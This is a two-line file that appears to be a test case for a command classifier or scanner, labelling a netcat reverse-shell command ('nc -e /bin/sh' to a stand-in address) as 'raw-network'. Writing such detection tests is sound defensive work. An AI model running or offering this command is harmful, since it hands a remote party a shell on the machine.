# expect: raw-network
nc -e /bin/sh 203.0.113.9 4444
